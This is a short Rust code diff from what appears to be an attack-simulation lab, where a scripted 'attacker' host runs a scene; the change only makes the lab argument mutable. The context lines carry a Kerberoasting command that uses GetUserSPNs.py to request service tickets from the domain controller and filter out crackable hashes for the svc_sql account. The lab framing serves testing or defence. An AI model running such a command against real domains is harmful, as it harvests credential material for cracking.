@@ -20,7 +20,7 @@ pub(super) const SCENE: Scene = Scene::attack(
     play,
 );
 
-fn play(lab: &Lab) -> Result<()> {
+fn play(lab: &mut Lab) -> Result<()> {
     lab.host("attacker")?.script(
         r#"env -u KRB5CCNAME GetUserSPNs.py "$DOMAIN/mallory:$PASSWORD" -dc-ip "$DC" -request |
                grep -E 'krb5tgs|Principal: .*svc_sql'"#,
